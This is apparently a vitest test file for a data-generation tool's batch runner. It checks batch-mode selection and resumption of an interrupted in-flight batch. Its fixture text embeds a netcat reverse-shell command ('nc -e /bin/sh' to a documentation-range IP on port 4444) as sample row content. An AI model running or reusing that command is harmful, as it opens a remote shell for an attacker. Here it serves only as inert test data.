import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useTempDir } from '../../../../test/helpers.js';
import { startOpenAIBatchUpstream } from '../../../../test/upstreams/openai-batch.js';
import { batchApiFor } from '../../../llm/batch/index.js';
import { createProvider } from '../../../llm/index.js';
import { openStore, type Store } from '../../../store/index.js';
import { batchFirstRound, useBatch } from './batch.js';
import { generate } from './engine.js';
import type { GenerateConfig, GenerateManifest, Invocation } from './manifest.js';
import { loadPrompts } from './prompt-file.js';

let dir: string;
useTempDir((path) => (dir = path), 'warden-genbatch-');

const text = (n: number) => `Row ${n}: the ${['amber', 'basalt', 'cedar', 'delta', 'ember', 'fjord', 'garnet', 'harbor'][n % 8]} team saw \`nc -e /bin/sh 203.0.113.${n} 4444\` in the ${['quartz', 'raven', 'sierra', 'tundra', 'lagoon'][n % 5]} logs.`;
const rows = (base: number) => [1, 2, 3].map((i) => JSON.stringify({ text: text(base + i), label: 'educational', segment_type: 'code', language: 'en' })).join('\n');

describe('useBatch', () => {
  it('batches with on, from 20 requests with auto, never with off or without a batch API', () => {
    const api = {} as Parameters<typeof useBatch>[1];
    expect(useBatch('on', api, 1)).toBe(true);
    expect(useBatch('auto', api, 19)).toBe(false);
    expect(useBatch('auto', api, 20)).toBe(true);
    expect(useBatch('off', api, 100)).toBe(false);
    expect(useBatch('on', undefined, 100)).toBe(false);
  });
});

describe('first rounds through the batch runner', () => {
  it('a run interrupted while its batch is in flight resumes that batch instead of sending another', async () => {
    const upstream = await startOpenAIBatchUpstream(
      function answer(request) {
        const messages = request.body.messages as { content: string }[];
        return { content: rows(messages.some((m) => m.content.includes('PROMPT-P')) ? 10 : 20) };
      },
      { itemMs: 250 },
    );
    let store: Store | undefined;
    try {
      for (const name of ['p', 'q']) {
        await writeFile(join(dir, `${name}.md`), `---\nlabel: educational\nlanguage: en\nsamples: 3\ndescription: x\n---\nPROMPT-${name.toUpperCase()}: rows.\n`);
      }
      const prompts = await loadPrompts([join(dir, 'p.md'), join(dir, 'q.md')]);
      const out = join(dir, 'run');
      const config: GenerateConfig = { model: 'gpt-4o-mini', fallback_models: [], samples: null, max_reprompts: 0, seed: null, near_dup: 0.85 };
      const invocation: Invocation = { prompts: [dir], out, concurrency: 2, batch: 'on', no_cache: true };
      const openTracker = async () => (store ??= await openStore(`sqlite:${join(out, 'batches.sqlite')}`));
      const session = (signal?: AbortSignal, onSubmitted?: () => void) => {
        const provider = createProvider({ provider: 'openai', baseURL: upstream.baseURL, apiKey: 'sk-test', model: 'gpt-4o-mini', maxRetries: 0 });
        const api = batchApiFor('openai', { baseURL: upstream.baseURL, apiKey: 'sk-test', maxRetries: 0 });
        const firstRound = batchFirstRound({
          mode: 'on',
          provider,
          api,
          store: openTracker,
          seed: undefined,
          concurrency: 2,
          pollMs: 20,
          maxPollMs: 50,
          onEvent: (event) => {
            if (event.type === 'submitted') onSubmitted?.();
          },
        });
        return generate({ provider, prompts, config, invocation, command: ['synth', 'generate'], firstRound, signal });
      };

      const controller = new AbortController();
      await expect(session(controller.signal, () => controller.abort())).rejects.toMatchObject({ code: 'W_LLM_CANCELLED' });
      const stopped = JSON.parse(await readFile(join(out, 'manifest.json'), 'utf8')) as GenerateManifest;
      expect(stopped.status).toBe('failed');
      expect(stopped.batches).toHaveLength(1);
      expect(stopped.batches[0]!.remote.map((r) => r.id)).toEqual(upstream.batchIds());
      expect(upstream.batchIds()).toHaveLength(1);

      const { manifest, exitCode } = await session();
      expect(exitCode).toBe(0);
      // The batch in flight was collected; nothing was sent again, nothing went through chat.
      expect(upstream.batchIds()).toHaveLength(1);
      expect(upstream.requests.some((r) => r.path.endsWith('/chat/completions'))).toBe(false);
      expect(manifest.prompts.map((p) => [p.name, p.status, p.accepted])).toEqual([
        ['p', 'complete', 3],
        ['q', 'complete', 3],
      ]);
      expect(manifest.usage.batch_requests).toBe(2);
      const p = (await readFile(join(out, 'p.jsonl'), 'utf8')).trim().split('\n').map((l) => (JSON.parse(l) as { text: string }).text);
      expect(p).toEqual([11, 12, 13].map(text));
    } finally {
      await store?.close();
      await upstream.close();
    }
  });
});
